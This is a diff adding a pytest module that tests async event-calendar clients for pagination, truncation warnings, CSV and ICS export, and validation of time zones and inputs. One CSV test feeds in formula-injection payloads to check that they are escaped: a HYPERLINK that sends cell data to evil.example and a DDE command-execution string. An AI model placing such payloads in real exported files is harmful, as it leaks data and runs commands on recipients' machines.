@@ -1,0 +1,243 @@
+"""The fourth hostile round: listings, exports and writes against shapes the providers'
+descriptions allow and our fakes never send, each finding reproduced first."""
+
+from __future__ import annotations
+
+import asyncio
+import datetime as dt
+import re
+import zoneinfo
+from typing import Any
+
+import icalendar
+import pytest
+
+import common
+from common._cli._output import _csv_row
+from common._types import zone_or_none
+from intervals_async import IntervalsClient
+from ridewithgps_async import RideWithGPSClient
+
+from .conftest import Action, RawServer, Seen, respond
+
+pytestmark = pytest.mark.anyio
+
+UTC = dt.timezone.utc
+
+
+def _rwgps(raw: RawServer) -> RideWithGPSClient:
+    return RideWithGPSClient(api_key="k", auth_token="t", base_url=raw.url, max_retries=0)
+
+
+def _listing(events: list[dict[str, Any]], **pagination: Any) -> dict[str, Any]:
+    meta = {"record_count": len(events), "page_count": 1, "page_size": 20, **pagination}
+    return {"events": events, "meta": {"pagination": meta}}
+
+
+# -- listings ----------------------------------------------------------------------------
+
+
+async def test_rwgps_updated_since_reads_the_whole_last_page(raw: RawServer) -> None:
+    # The description promises no order: a newer event after an older one on the same
+    # page was dropped (the page was cut at the first older event).
+    now = dt.datetime(2026, 5, 2, 12, tzinfo=UTC)
+    stamps = [now, now - dt.timedelta(days=5), now - dt.timedelta(hours=1)]
+    events = [
+        {"id": i + 1, "name": f"E{i + 1}", "updated_at": t.isoformat()}
+        for i, t in enumerate(stamps)
+    ]
+    raw.answer(respond(200, _listing(events, page_count=3)))
+    async with _rwgps(raw) as client:
+        since = now - dt.timedelta(days=1)
+        found = [e.id async for e in client.iter_events(updated_since=since)]
+    assert found == [1, 3]
+    assert len(raw.requests) == 1  # an older event on the page: no next page
+
+
+@pytest.mark.parametrize("second", [[], None], ids=["empty page 2", "page_count lies"])
+async def test_rwgps_listing_short_of_its_record_count_warns(
+    raw: RawServer, second: list[dict[str, Any]] | None
+) -> None:
+    first = [{"id": i, "name": f"E{i}"} for i in range(1, 21)]
+    if second is None:  # one page said, 60 records named
+        raw.answer(respond(200, _listing(first, record_count=60, page_count=1)))
+    else:
+        raw.answer(
+            respond(200, _listing(first, record_count=60, page_count=3)),
+            respond(200, _listing(second, record_count=60, page_count=3)),
+        )
+    async with _rwgps(raw) as client:
+        with pytest.warns(common.TruncationWarning, match="20 of the 60 events"):
+            found = [e.id async for e in client.iter_events()]
+    assert len(found) == 20
+
+
+def _intervals_event(index: int, date: str) -> dict[str, Any]:
+    return {
+        "_id": f"ev{index:05d}",
+        "name": f"Event {index}",
+        "slug": f"event-{index}",
+        "type": "race",
+        "date": date,
+        "organizationId": "org1",
+    }
+
+
+async def test_intervals_cursor_server_ignoring_the_dates_yields_only_the_window(
+    raw: RawServer,
+) -> None:
+    # The cursor path took every event the server sent; the windows' path warned about
+    # a server ignoring the dates. Both now keep to the dates asked for, and say so.
+    days = ["2026-04-30", "2026-05-01", "2026-05-02", "2026-05-04"]
+    events = [_intervals_event(i, day) for i, day in enumerate(days)]
+
+    async def pages(writer: asyncio.StreamWriter, seen: Seen) -> bool:
+        after = re.search(r"[?&]after=([^&]+)", seen.target)
+        chunk = events[:2] if after is None else events[2:]
+        return await respond(200, {"data": chunk, "hasMore": after is None})(writer, seen)
+
+    raw.answer(pages)
+    async with IntervalsClient(api_key="k", base_url=raw.url, max_retries=0) as client:
+        with pytest.warns(common.TruncationWarning, match="dated outside") as record:
+            found = [
+                e.date
+                async for e in client.iter_events(
+                    date_from=dt.date(2026, 5, 1), date_to=dt.date(2026, 5, 3)
+                )
+            ]
+    assert found == [dt.date(2026, 5, 1), dt.date(2026, 5, 2)]
+    assert len(record) == 2  # one per page that held such events
+
+
+async def test_intervals_truncation_warning_counts_what_came(raw: RawServer) -> None:
+    data = [_intervals_event(i, "2026-05-01") for i in range(50)]
+    raw.answer(respond(200, {"data": data, "hasMore": True}))
+    async with IntervalsClient(api_key="k", base_url=raw.url, max_retries=0) as client:
+        with pytest.warns(common.TruncationWarning, match="returned 50 items and says"):
+            page = await client.list_events()
+    assert len(page) == 50
+
+
+# -- exports -----------------------------------------------------------------------------
+
+
+def _event(**fields: Any) -> common.Event:
+    fields.setdefault("provider", "intervals")
+    fields.setdefault("id", "ev1")
+    fields.setdefault("name", "Canal 10K")
+    fields.setdefault("start_date", dt.date(2026, 6, 1))
+    return common.Event(**fields)
+
+
+def _record(event: common.Event) -> dict[str, Any]:
+    from common._cli._output import Outcome
+
+    return Outcome(event, details=True).record()
+
+
+def test_csv_cells_never_start_a_formula_and_distances_are_exact() -> None:
+    event = _event(
+        name='=HYPERLINK("http://evil.example/?"&A1,"Click")',
+        description="+1+cmd|' /C calc'!A0",
+        location=common.Location(name="@SUM(1+1)", lat=-33.5, lng=-6.25),
+        distances_m=(1609344.0, 160934.4, 42194.988),
+    )
+    row = _csv_row(_record(event))
+    assert row["name"].startswith("'=HYPERLINK")
+    assert row["description"].startswith("'+1+cmd")
+    assert row["location"] == "'@SUM(1+1), -33.5, -6.25"
+    assert row["distances_m"] == "1609344.0 160934.4 42194.988"
+    assert _csv_row(_record(_event(name="-5")))["name"] == "-5"  # a number stays a number
+
+
+def _vevents(text: str) -> list[Any]:
+    return list(icalendar.Calendar.from_ical(text).walk("VEVENT"))
+
+
+def test_ics_text_holds_no_control_characters() -> None:
+    bad = "Run\x00 \x01club\x1b\x7f"
+    text = common.to_ics([_event(name=bad, description=bad, id="ev\x0b1")], name="Cal\x0c")
+    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", text)
+    assert str(_vevents(text)[0]["SUMMARY"]) == "Run club"
+
+
+def test_ics_timed_events_end_on_the_next_day_or_at_their_end_date() -> None:
+    night = _event(
+        id="night", start_time=dt.time(22), end_time=dt.time(2), timezone="Europe/Dublin"
+    )
+    tour = _event(
+        id="tour",
+        start_time=dt.time(8),
+        end_date=dt.date(2026, 6, 20),
+        timezone="Europe/Dublin",
+    )
+    dublin = zoneinfo.ZoneInfo("Europe/Dublin")
+    ends = {
+        str(v["UID"]).split("@")[0]: v["DTEND"].dt for v in _vevents(common.to_ics([night, tour]))
+    }
+    assert ends == {
+        "intervals-night": dt.datetime(2026, 6, 2, 2, tzinfo=dublin),
+        "intervals-tour": dt.datetime(2026, 6, 21, 0, tzinfo=dublin),
+    }
+
+
+def test_ics_time_zone_rules_cover_the_timed_events_whatever_the_all_day_ones() -> None:
+    timed = _event(id="t", start_time=dt.time(10), timezone="Europe/Dublin")
+    placeholder = _event(id="p", start_date=dt.date(2026, 1, 1), end_date=dt.date(2099, 12, 31))
+    calendar = icalendar.Calendar.from_ical(common.to_ics([timed, placeholder]))
+    (zone,) = calendar.walk("VTIMEZONE")
+    onsets = [c["DTSTART"].dt.year for c in zone.subcomponents]
+    assert min(onsets) <= 2026 <= max(onsets)
+
+
+# -- zones and writes --------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "name", ["localtime", "posixrules", "Factory", "posix/Europe/Paris", "right/UTC"]
+)
+def test_names_of_no_zone_are_no_zone(name: str) -> None:
+    # They open on this machine's tz database but name its own zone or no IANA one: the
+    # same document gave another instant on another machine.
+    assert zone_or_none(name) is None
+    with pytest.raises(common.InvalidRequestError) as caught:
+        common.provider.check_timezone("time_zone", name)
+    assert caught.value.field == "time_zone"
+
+
+@pytest.mark.parametrize(
+    "url", ["http://exämple.com/ü", "http://x/%zz", 'http://x/<>"{}|^`', "http://x/\x7f"]
+)
+async def test_an_url_that_is_no_uri_is_refused_before_sending(raw: RawServer, url: str) -> None:
+    async with IntervalsClient(api_key="k", base_url=raw.url) as client:
+        with pytest.raises(common.InvalidRequestError) as caught:
+            await client.create_event(
+                name="x", slug="x", date="2026-01-01", type="race", website_url=url
+            )
+    assert caught.value.field == "website_url"
+    assert raw.requests == []
+
+
+@pytest.mark.parametrize(
+    ("fields", "field"),
+    [
+        ({"retry_if_maybe_sent": "false"}, "retry_if_maybe_sent"),
+        ({"retry_if_maybe_sent": 0}, "retry_if_maybe_sent"),
+        ({"notes": "caf\udce9"}, "notes"),
+    ],
+)
+async def test_a_registration_flag_is_a_bool_and_text_is_unicode(
+    raw: RawServer, fields: dict[str, Any], field: str
+) -> None:
+    # "false" as a string meant "retry": a write the caller opted out of retrying was
+    # sent three times against a server that does not de-duplicate.
+    async with IntervalsClient(api_key="k", base_url=raw.url) as client:
+        with pytest.raises(common.InvalidRequestError) as caught:
+            await client.register_participant(
+                event_run_id="r1", name="A B", email="a@b.co", registration_type="free", **fields
+            )
+    assert caught.value.field == field
+    assert raw.requests == []
+
+
+_ = Action  # (the conftest's action type, for servers written in this module)
